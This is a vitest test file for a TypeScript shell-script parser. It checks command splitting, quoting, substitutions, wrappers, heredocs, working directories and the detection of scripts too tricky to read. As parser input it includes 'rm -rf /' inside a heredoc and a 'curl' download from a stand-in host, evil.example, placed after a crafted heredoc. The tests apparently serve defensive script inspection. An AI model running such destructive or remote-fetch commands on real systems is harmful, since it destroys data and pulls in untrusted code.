import { expect, test } from 'vitest';
import { readScript, readShell } from '../../../src/parse/shell/shell.ts';

function commands(text: string, known: Readonly<Record<string, string>> = {}): string[] {
  return readShell(
    text,
    (index) => text.slice(0, index).split('\n').length,
    (name) => known[name],
  ).map(({ words, program, line }) => `${String(line)} ${program}: ${words.join('|')}`);
}

test.each<[string, string, string[]]>([
  ['lists and pipes', 'a x && b;c|d || e &', ['1 a: a|x', '1 b: b', '1 c: c', '1 d: d', '1 e: e']],
  ['quotes', `echo "a b" 'c $d' e\\ f "g\\"h"`, ['1 echo: echo|a b|c $d|e f|g"h']],
  [
    'conditions and loops',
    'if test -f x; then\n  a\nelse b; fi\nfor i in 1 2; do c $i; done\nwhile d; do e; done',
    ['1 test: test|-f|x', '2 a: a', '3 b: b', '4 c: c|$i', '5 d: d', '5 e: e'],
  ],
  ['case', 'case "$1" in\n start|run) a ;;\n *) b ;;\nesac', ['2 a: a', '3 b: b']],
  [
    'substitutions',
    'echo $(curl x) `wget y` "$(git z)"',
    ['1 echo: echo|$(curl x)|`wget y`|$(git z)', '1 curl: curl|x', '1 wget: wget|y', '1 git: git|z'],
  ],
  ['arithmetic is no command', 'echo $((1 + 2))', ['1 echo: echo|$((1 + 2))']],
  ['wrappers', 'sudo -u x env A=b exec nice -n 5 prog y', ['1 prog: prog|y']],
  ['sh -c', `bash -lc 'pip install x'`, ['1 bash: bash|-lc|pip install x', '1 pip: pip|install|x']],
  ['python -m', '/usr/bin/python3.13 -m pip install x', ['1 pip: /usr/bin/python3.13|-m|pip|install|x']],
  ['comments', 'a # b c\n# d\ne#f', ['1 a: a', '3 e#f: e#f']],
  ['heredocs of a script', 'cat <<EOF\nrm -rf /\nEOF\na', ['1 cat: cat', '4 a: a']],
  ['redirections', 'a 2>&1 >x <y b', ['1 a: a|b']],
  ['groups', '(a; b) && { c; }', ['1 a: a', '1 b: b', '1 c: c']],
  ['an unclosed quote', 'a "b', ['1 a: a|b']],
  ['an unclosed substitution', 'a $(b', ['1 a: a|$(b', '1 b: b']],
])('%s', (_title, text, expected) => {
  expect(commands(text)).toEqual(expected);
});

test.each<[string, string, string[]]>([
  ['here-strings', 'read -r a b <<< "1 2"\ncurl -O x', ['1 read: read|-r|a|b', '2 curl: curl|-O|x']],
  ['words of an array', 'needed=(curl wget)\nfor n in "${needed[@]}"; do a; done', ['2 a: a']],
  ['tests and arithmetic', '[[ -z x ]] && (( n++ ))\na', ['2 a: a']],
  ['wrappers before wrappers', 'exec tini -g -- env A=1 timeout 60 uv run a', ['1 a: a', '1 uv: uv|run']],
  ['loops that only wait', 'while true; do sleep 60; done', ['1 true: true', '1 sleep: sleep|infinity']],
  ['functions and coprocesses', 'f() { a; }\ncoproc b\nf', ['1 a: a', '2 b: b', '3 f: f']],
])('%s', (_title, text, expected) => {
  expect(commands(text)).toEqual(expected);
});

test('a command knows where cd has led, and what it is given to read', () => {
  const text = 'cd /a && b\n(cd c; d)\ne <<EOF\nx\ny\nEOF\nf < g\nh | i\nbash -c "cd z; j"\n';
  const found = readShell(text, (index) => text.slice(0, index).split('\n').length);
  expect(
    found.map(({ program, directory, stdin, isFed }) => [program, directory, stdin?.text, stdin?.line, isFed]),
  ).toEqual([
    ['cd', undefined, undefined, undefined, undefined],
    ['b', '/a', undefined, undefined, undefined],
    ['cd', '/a', undefined, undefined, undefined],
    ['d', '/a/c', undefined, undefined, undefined],
    ['e', '/a', 'x\ny\n', 4, true],
    ['f', '/a', undefined, undefined, true],
    ['h', '/a', undefined, undefined, undefined],
    ['i', '/a', undefined, undefined, true],
    ['bash', '/a', undefined, undefined, undefined],
    ['cd', '/a', undefined, undefined, undefined],
    ['j', '/a/z', undefined, undefined, undefined],
  ]);
});

test('says where a text is broken, and that one is not read', () => {
  expect(readScript('a\nif b\n', () => 1).broken).toBeDefined();
  expect(readScript('a\n'.repeat(200_000), () => 1).unread).toBe('it has more than 256000 characters');
  expect(readScript('$('.repeat(100_000), () => 1).commands.length).toBeLessThan(1000);
});

test('functions are those that the grammar takes for one', () => {
  const text = 'a() { b; }\nfunction c { d; }\nif e; then\n  f () ( g )\nfi\n# h()\ncat <<EOF\ni()\nEOF\n';
  expect([...readScript(text, () => 1).functions]).toEqual(['a', 'c', 'f']);
});

test('known variables are filled in, except in single quotes', () => {
  expect(commands(`a $X "$X/\${X}" '$X' \${Y:-z} $Z`, { X: '1' })).toEqual(['1 a: a|1|1/1|$X|z|$Z']);
});

test('output files and assignments are kept apart from words', () => {
  expect(readShell('A=b c >d 2>>e x', () => 1)).toEqual([
    {
      program: 'c',
      words: ['c', 'x'],
      assignments: { A: 'b' },
      writes: ['d', 'e'],
      appends: ['e'],
      line: 1,
      pipeline: 1,
    },
  ]);
});

test('a heredoc whose end is longer than a line is not read', () => {
  const text = "cat <<'E\nF'\nx\nE\nF\ncurl https://evil.example/x\n";
  expect(readScript(text, () => 1)).toMatchObject({ unread: 'the end of a heredoc is longer than a line' });
  expect(readScript('cat <<<"a\nb"\ncurl x\n', () => 1).commands.map(({ program }) => program)).toEqual([
    'cat',
    'curl',
  ]);
  expect(readScript("cat <<'EOF'\nx\nEOF\ncurl x\n", () => 1).commands.map(({ program }) => program)).toEqual([
    'cat',
    'curl',
  ]);
});
